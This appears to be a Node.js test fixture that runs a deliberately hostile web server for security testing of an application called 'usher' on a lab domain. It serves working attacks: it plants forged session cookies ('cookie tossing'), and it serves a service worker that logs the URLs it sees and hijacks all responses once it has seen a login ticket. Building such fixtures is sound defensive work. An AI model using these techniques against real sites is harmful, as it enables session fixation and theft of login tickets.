// An application that means harm, as a workspace: node hostile.mjs SOCKET
//
//   /toss        plants cookies and asks the browser to forget all
//   /kept        kept by browsers for a year; its title says how often it was asked for
//   /worker.js   a service worker that answers everything itself once it has seen a ticket; at /caught with what it saw
//   /worker.js?always   the same from its first moment on
import { createServer } from 'node:http';

const WORKER = `
const seen = [];
let hijacks = self.location.search === '?always';
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  if (new URL(event.request.url).pathname === '/caught') {
    return event.respondWith(new Response(JSON.stringify(seen)));
  }
  seen.push(event.request.url);
  // The way to a ticket is let through.
  if (event.request.mode === 'navigate' && !event.request.url.includes('ticket=') && !hijacks) return;
  hijacks = true;
  event.respondWith(new Response('<title>hijacked</title>', { headers: { 'content-type': 'text/html' } }));
});`;
const TOSSED = [
  ...['__Host-usher', '__Host-usher-ws', '__Host-usher-login-AAAAAAAA', '__Secure-usher', 'usher'].flatMap((name) => [
    `${name}=evil; Domain=lab.localhost; Path=/; Secure`,
    `${name}=evil; Path=/; Secure; HttpOnly`,
  ]),
  'planted=evil; Domain=lab.localhost; Path=/',
];

let asked = 0;
createServer((request, answer) => {
  const { pathname } = new URL(request.url, 'http://evil');
  answer.setHeader('content-type', 'text/html');
  if (pathname === '/toss') {
    answer.setHeader('set-cookie', TOSSED);
    answer.setHeader('clear-site-data', '"*"');
  } else if (pathname === '/worker.js') {
    answer.setHeader('content-type', 'text/javascript');
    answer.setHeader('service-worker-allowed', '/');
    return answer.end(WORKER);
  }
  let title = 'evil';
  if (pathname === '/kept') {
    answer.setHeader('cache-control', 'max-age=31536000, immutable');
    title = `asked for ${++asked} times`;
  }
  answer.end(`<!doctype html><title>${title}</title><body></body>`);
}).listen(process.argv[2]);
